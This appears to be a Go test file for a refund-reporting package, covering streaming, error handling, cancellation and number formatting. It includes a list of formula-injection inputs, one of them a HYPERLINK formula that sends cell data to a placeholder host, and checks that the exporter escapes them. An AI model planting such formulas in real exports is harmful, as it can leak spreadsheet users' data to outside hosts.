package report_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/refundry/refundry/internal/ledger"
	"github.com/refundry/refundry/internal/money"
	"github.com/refundry/refundry/internal/payment"
	"github.com/refundry/refundry/internal/report"
)

// shop is a reader whose refunds are made when they are read.
type shop struct {
	report.Reader // of everything else: nobody asks

	refunds int
	make    func(n int) payment.Refund
	asked   func(filter payment.RefundFilter) error // before each page
}

var began = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// ListRefunds implements [report.Reader]: ids are numbers, and the newest comes first.
func (s shop) ListRefunds(_ context.Context, _ payment.TenantID, filter payment.RefundFilter) (page []payment.Refund, err error) {
	if s.asked != nil {
		if err := s.asked(filter); err != nil {
			return nil, err
		}
	}
	next := s.refunds
	if filter.After != (payment.Place{}) {
		next = int(binary.BigEndian.Uint64(filter.After.ID[8:])) - 1
	}
	for ; next > 0 && len(page) < filter.Limit; next-- {
		r := s.make(next)
		binary.BigEndian.PutUint64(r.ID[8:], uint64(next))
		r.CreatedAt = began
		page = append(page, r)
	}
	return page, nil
}

// NamedPayments implements [report.Reader].
func (s shop) NamedPayments(_ context.Context, _ payment.TenantID, ids []payment.PaymentID) (all []payment.Payment, err error) {
	for _, id := range ids {
		all = append(all, payment.Payment{ID: id, Reference: "-1+1"})
	}
	return all, nil
}

func plain(n int) payment.Refund {
	return payment.Refund{Amount: money.Of(money.Minor(n), "EUR"), Status: payment.RefundPending, Reason: fmt.Sprint("reason ", n%7)}
}

func named(t *testing.T, name string) report.Report {
	t.Helper()
	wanted, known := report.Named(name)
	if !known {
		t.Fatalf("no report %s", name)
	}
	return wanted
}

// A report is written while it is read: before a page is asked for, the pages
// before have left, but for what fits into one small buffer. So its memory does
// not grow with its rows.
func TestRowsLeaveAsTheyAreRead(t *testing.T) {
	t.Parallel()
	const refunds = 20_000
	for _, name := range []string{"refunds", "reasons", "ageing"} {
		var written bytes.Buffer
		pages, longest := 0, 0
		reader := shop{refunds: refunds, make: plain, asked: func(filter payment.RefundFilter) error {
			pages++
			if filter.Limit > 1000 {
				t.Errorf("%s: a page of %d is asked for", name, filter.Limit)
			}
			longest = filter.Limit
			if rows := bytes.Count(written.Bytes(), []byte("\n")); name == "refunds" && rows < (pages-1)*filter.Limit-500 {
				t.Fatalf("%s: page %d is asked for, and only %d rows have left", name, pages, rows)
			}
			return nil
		}}
		if err := named(t, name).Write(t.Context(), reader, report.Ask{Now: began, Format: report.CSV}, &written); err != nil {
			t.Fatal(err)
		}
		if pages != refunds/longest+1 {
			t.Errorf("%s: %d pages of %d", name, pages, longest)
		}
		want := map[string]int{"refunds": refunds + 1, "reasons": 8, "ageing": 2}[name]
		if rows := strings.Count(written.String(), "\r\n"); rows != want {
			t.Errorf("%s: %d lines, want %d", name, rows, want)
		}
	}
}

// What is summed up has a limit too, and is refused before anything is written.
func TestTooManySumsAreRefused(t *testing.T) {
	t.Parallel()
	var written bytes.Buffer
	reader := shop{refunds: 100_001, make: func(n int) payment.Refund {
		r := plain(n)
		r.Reason = fmt.Sprint(n)
		return r
	}}
	err := named(t, "reasons").Write(t.Context(), reader, report.Ask{Format: report.CSV}, &written)
	if err == nil || written.Len() > 0 {
		t.Errorf("%v, and %d bytes are written", err, written.Len())
	}
}

var errGone = errors.New("the database has gone")

// A report that breaks off says so.
func TestBrokenReportsSaySo(t *testing.T) {
	t.Parallel()
	pages := 0
	reader := shop{refunds: 5000, make: plain, asked: func(payment.RefundFilter) error {
		if pages++; pages > 4 {
			return errGone
		}
		return nil
	}}
	for _, name := range []string{"refunds", "reasons", "ageing"} {
		pages = 0
		if err := named(t, name).Write(t.Context(), reader, report.Ask{Format: report.CSV}, &bytes.Buffer{}); !errors.Is(err, errGone) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// A report ends when nobody waits for it any more.
func TestReportsEndWhenTheirCallerHasGone(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"refunds", "reasons", "ageing"} {
		ctx, cancel := context.WithCancel(t.Context())
		pages := 0
		reader := shop{refunds: 5000, make: plain, asked: func(payment.RefundFilter) error {
			pages++
			cancel()
			return nil
		}}
		err := named(t, name).Write(ctx, reader, report.Ask{Format: report.CSV}, &bytes.Buffer{})
		if !errors.Is(err, context.Canceled) || pages != 1 {
			t.Errorf("%s: %d pages, %v", name, pages, err)
		}
	}
}

// hostile are texts that break careless files, and how a spreadsheet gets them.
var hostile = map[string]string{
	``: ``, `plain`: `plain`, `a,b;c`: `a,b;c`, `say "hi"`: `say "hi"`, "two\nlines": "two\nlines", "two\r\nlines": "two\r\nlines",
	`=1+1`: `'=1+1`, `+1`: `'+1`, `-1`: `'-1`, `@SUM(A1)`: `'@SUM(A1)`, "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
	`=HYPERLINK("http://a.example/?x="&A1,"ok")`: `'=HYPERLINK("http://a.example/?x="&A1,"ok")`,
	`＝1`: `'＝1`, ` x `: ` x `, `"`: `"`, `'=1`: `'=1`, "ünï 🎩": "ünï 🎩", "\u2028": "\u2028", `a=b`: `a=b`, `</script>`: `</script>`,
}

// Whatever people call things, a row has its columns, a spreadsheet sees no
// formula, and nothing else in a text changes.
func TestHostileTextsAreTexts(t *testing.T) {
	t.Parallel()
	for text, inCSV := range hostile {
		reader := shop{refunds: 2, make: func(n int) payment.Refund {
			r := plain(n)
			r.Reference, r.Reason, r.OrderReference, r.Failure.Code = text, text, text, text
			return r
		}}
		lines := parsed(t, write(t, "refunds", reader, report.CSV))
		if len(lines) != 3 || len(lines[0]) != len(named(t, "refunds").Columns) {
			t.Fatalf("%q: %d lines", text, len(lines))
		}
		for i, column := range lines[0] {
			switch column {
			case "reference", "reason", "order_reference", "failure_code":
				if lines[1][i] != inCSV && lines[1][i] != strings.ReplaceAll(inCSV, "\r\n", "\n") { // as Go reads it
					t.Errorf("%q: %s is %q, want %q", text, column, lines[1][i], inCSV)
				}
			case "payment_reference":
				if lines[1][i] != "'-1+1" {
					t.Errorf("%s is %q", column, lines[1][i])
				}
			}
		}
		for line := range strings.Lines(write(t, "refunds", reader, report.NDJSON)) {
			var row map[string]any
			if err := json.Unmarshal([]byte(line), &row); err != nil {
				t.Fatal(err)
			}
			if got, _ := row["reference"].(string); got != text || len(row) != len(named(t, "refunds").Columns) {
				t.Errorf("%q is %q in JSON", text, got)
			}
		}
	}
}

func write(t *testing.T, name string, reader report.Reader, format report.Format) string {
	t.Helper()
	var to bytes.Buffer
	if err := named(t, name).Write(t.Context(), reader, report.Ask{Format: format}, &to); err != nil {
		t.Fatal(err)
	}
	return to.String()
}

func parsed(t *testing.T, text string) [][]string {
	t.Helper()
	lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("%v in %s", err, text)
	}
	return lines
}

// books is a reader of balances.
type books struct{ report.Reader }

// Balances implements [report.Reader].
func (books) Balances(context.Context, payment.TenantID, time.Time) (ledger.Balances, error) {
	return ledger.Balances{
		ledger.Payable("=m,\"1\""): {"JPY": -500, "BHD": -1},
		ledger.InFlight:            {"EUR": -12345},
	}, nil
}

// Numbers below zero are numbers, and not texts that look like formulas.
func TestNumbersStayNumbers(t *testing.T) {
	t.Parallel()
	want := "account,kind,normal_side,currency,balance_minor,balance\r\n" +
		"\"merchant:=m,\"\"1\"\":payable\",merchant_payable,credit,BHD,-1,-0.001\r\n" +
		"\"merchant:=m,\"\"1\"\":payable\",merchant_payable,credit,JPY,-500,-500\r\n" +
		"refunds:in_flight,refunds_in_flight,credit,EUR,-12345,-123.45\r\n"
	if diff := cmp.Diff(want, write(t, "balances", books{}, report.CSV)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	wantLine := `{"account":"refunds:in_flight","kind":"refunds_in_flight","normal_side":"credit","currency":"EUR",` +
		`"balance_minor":-12345,"balance":"-123.45"}` + "\n"
	if got := write(t, "balances", books{}, report.NDJSON); !strings.HasSuffix(got, wantLine) {
		t.Errorf("got %s, want %s", got, wantLine)
	}
}

// docs/reports.md has every report, with its columns in their order.
func TestPageOfReportsIsTrue(t *testing.T) {
	t.Parallel()
	page, err := os.ReadFile("../../docs/reports.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range report.All {
		var want strings.Builder
		fmt.Fprintf(&want, "### %s\n\n%s", r.Name, r.Doc)
		if r.Span != report.SpanNone {
			fmt.Fprintf(&want, " Takes %s.", "`"+strings.Join(r.Span.Parameters(), "`, `")+"`")
		}
		want.WriteString("\n\n| column | kind | |\n| --- | --- | --- |\n")
		for _, c := range r.Columns {
			fmt.Fprintf(&want, "| `%s` | %s | %s |\n", c.Name, c.Kind, c.Doc)
		}
		if !strings.Contains(string(page), want.String()) {
			t.Errorf("docs/reports.md does not have this:\n%s", want.String())
		}
	}
}
